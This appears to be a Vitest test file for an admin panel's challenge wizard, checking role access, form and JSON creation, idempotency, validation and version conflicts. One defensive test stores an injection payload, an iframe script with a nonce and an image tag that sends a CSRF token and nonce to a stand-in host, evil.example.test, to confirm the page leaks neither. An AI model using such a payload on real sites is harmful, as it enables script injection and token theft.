import { beforeAll, describe, expect, test } from "vitest";
import { signatureIn } from "~/platform/csrf-token";
import { prisma } from "~/platform/database/connections.server";
import { adminWorld, EDITORS_ONLY } from "../setup/admin-world";

/** The challenge wizard through its handlers: by every role, as form and as JSON. */
const { fixture, as } = await adminWorld();

let created = "";

beforeAll(async () => {
  created = await create();
});

/** A quiz as the form of a browser sends it. */
const QUIZ = {
  intent: "create",
  challenge_type: "collect",
  parameters: "quiz",
  caption: "Spring quiz",
  identifier: "",
  description: "",
  cta_button_text: "",
  reward_type: "points",
  points: "40",
  start: "2030-05-02T09:00",
  finish: "",
  published: "true",
  grants_offers: "false",
  repeatable: "false",
  success_message: "",
  "questions[0][title]": "First in spring?",
  "questions[0][answer_type]": "radio_button",
  "questions[0][is_required]": "true",
  "questions[0][options][0][details]": "Asparagus",
  "questions[0][options][0][is_correct]": "true",
  "questions[0][options][1][details]": "Pumpkin",
  "questions[0][options][1][is_correct]": "false",
};

describe("the wizard", () => {
  test.each(EDITORS_ONLY)("as %s: new, create, edit, update respond with %i", async (who, status) => {
    const [newPath, editPath] = [
      `/admin/v2/programs/${fixture.demo}/challenges/new`,
      `/admin/v2/challenges/${created}/edit`,
    ];
    for (const path of [newPath, editPath]) expect((await as(who).json("GET", path)).status).toBe(status);
    const caption = `By ${who}`;
    expect((await as(who).json("POST", newPath, { challenge_type: "referral", caption })).status).toBe(status);
    expect((await as(who).json("PUT", editPath, { description: caption })).status).toBe(status);
    expect(await prisma.challenge.count({ where: { programId: fixture.demo, caption } })).toBe(status === 200 ? 1 : 0);
  });

  test("creates from a form, and redirects to the list", async () => {
    const response = await as("manager").form(`/admin/v2/programs/${fixture.demo}/challenges/new`, {
      ...QUIZ,
      caption: "From a form",
    });
    expect(response.status).toBe(303);
    expect(response.headers.get("location")).toBe(`/admin/v2/programs/${fixture.demo}/challenges`);
    const row = await prisma.challenge.findFirstOrThrow({
      where: { programId: fixture.demo, caption: "From a form" },
      include: { questions: { include: { options: true } } },
    });
    expect(row).toMatchObject({
      identifier: "from-a-form",
      ctaButtonText: "Take Quiz",
      published: true,
      start: new Date("2030-05-02T13:00:00Z"),
    });
    expect(row.questions).toMatchObject([
      { title: "First in spring?", options: [{ isCorrect: true }, { isCorrect: false }] },
    ]);
  });

  test("creates one challenge for a double click and a retry", async () => {
    const path = `/admin/v2/programs/${fixture.demo}/challenges/new`;
    const form = { ...QUIZ, caption: "Pressed twice", idempotency_key: "opened-once" };
    const responses = await Promise.all([1, 2].map(() => as("manager").form(path, form)));
    responses.push(await as("manager").form(path, form));
    expect(responses.map(({ status }) => status)).toEqual([303, 303, 303]);
    expect(await prisma.challenge.count({ where: { programId: fixture.demo, caption: "Pressed twice" } })).toBe(1);
    expect(
      (
        await as("manager").json("POST", path, {
          challenge_type: "referral",
          caption: "Another",
          idempotency_key: "opened-once",
        })
      ).status,
    ).toBe(409);
  });

  test("returns an error for each wrong field by its path, and the input", async () => {
    const wrong = {
      ...QUIZ,
      caption: "Typed with care",
      points: "many",
      "questions[0][title]": "",
      "questions[0][options][0][is_correct]": "false",
    };
    const response = await as("manager").form(`/admin/v2/programs/${fixture.demo}/challenges/new`, wrong);
    expect(response.status).toBe(422);
    const html = await response.text();
    expect(html).toContain("Please fix the following errors:");
    expect(html).toContain('value="Typed with care"');
    const json = await as("manager").json("POST", `/admin/v2/programs/${fixture.demo}/challenges/new`, {
      challenge_type: "link",
      caption: "A",
    });
    expect(await json.json()).toMatchObject({ success: false, errors: [{ field: "link_url" }] });
  });

  test("changes only the fields in the JSON, and rejects an unchanged row and an old version", async () => {
    const id = await create();
    const path = `/admin/v2/challenges/${id}/edit`;
    const { challenge } = (await (await as("owner").json("GET", path)).json()) as { challenge: { updated_at: string } };
    const changed = await as("owner").json("PUT", path, { caption: "Renamed", updated_at: challenge.updated_at });
    expect(await changed.json()).toMatchObject({
      success: true,
      message: "Challenge updated successfully.",
      data: { caption: "Renamed", link_url: "https://shop.example.test/" },
    });
    const publication = async (fields: object) => {
      const { data } = (await (await as("owner").json("PUT", path, fields)).json()) as { data?: object };
      return data;
    };
    const start = "2030-05-01T09:00";
    expect(await publication({ publication: "schedule", start: "" })).toBeUndefined();
    expect(await publication({ publication: "schedule", start })).toMatchObject({
      published: true,
      start: expect.stringContaining("2030-05-01") as string,
    });
    expect(await publication({ publication: "now", start })).toMatchObject({ published: true, start: null });
    expect(await publication({ publication: "draft" })).toMatchObject({ published: false });
    const same = await as("owner").json("PUT", path, { caption: "Renamed" });
    expect([same.status, await same.json()]).toMatchObject([
      422,
      { message: "No changes detected", errors: [{ message: "No changes were detected. Please try again." }] },
    ]);
    expect((await as("owner").json("PUT", path, { caption: "Stale", updated_at: challenge.updated_at })).status).toBe(
      409,
    );
  });
});

describe("an operator's text", () => {
  const FIXED_WORDS = ["csp-nonce-placeholder-24", "csrf-token-placeholder-of-43-characters-len"];

  test("gets neither the page's nonce nor the reader's token, whatever words it contains", async () => {
    const content = `<iframe srcdoc="<script nonce='${FIXED_WORDS[0]}'>alert(1)</script>"></iframe><img src="https://evil.example.test/?t=${FIXED_WORDS[1]}&n=${FIXED_WORDS[0]}">`;
    const id = await create();
    expect((await as("manager").json("PUT", `/admin/v2/challenges/${id}/edit`, { content })).status).toBe(200);
    const page = await as("super").page(`/admin/v2/challenges/${id}/edit`);
    const html = await page.text();
    for (const word of FIXED_WORDS) expect(html).toContain(word);
    const nonce = /'nonce-([^']+)'/.exec(page.headers.get("content-security-policy")!)![1]!;
    const withoutAttributes = html.replaceAll(`nonce="${nonce}"`, "");
    expect(withoutAttributes.length).toBeLessThan(html.length);
    expect(withoutAttributes).not.toContain(nonce);
    const signature = signatureIn(fixture.admins.super.csrf);
    expect(html.split(signature)).toHaveLength(html.split('name="authenticity_token"').length + 1); // one more in the meta tag
    for (const script of html.match(/<script[^>]*>/g)!) expect(script).toContain(`nonce="${nonce}"`);
  });
});

async function create(): Promise<string> {
  const response = await as("owner").json("POST", `/admin/v2/programs/${fixture.demo}/challenges/new`, {
    challenge_type: "link",
    caption: "A link",
    link_url: "https://shop.example.test/",
    published: true,
  });
  return ((await response.json()) as { data: { id: string } }).data.id;
}
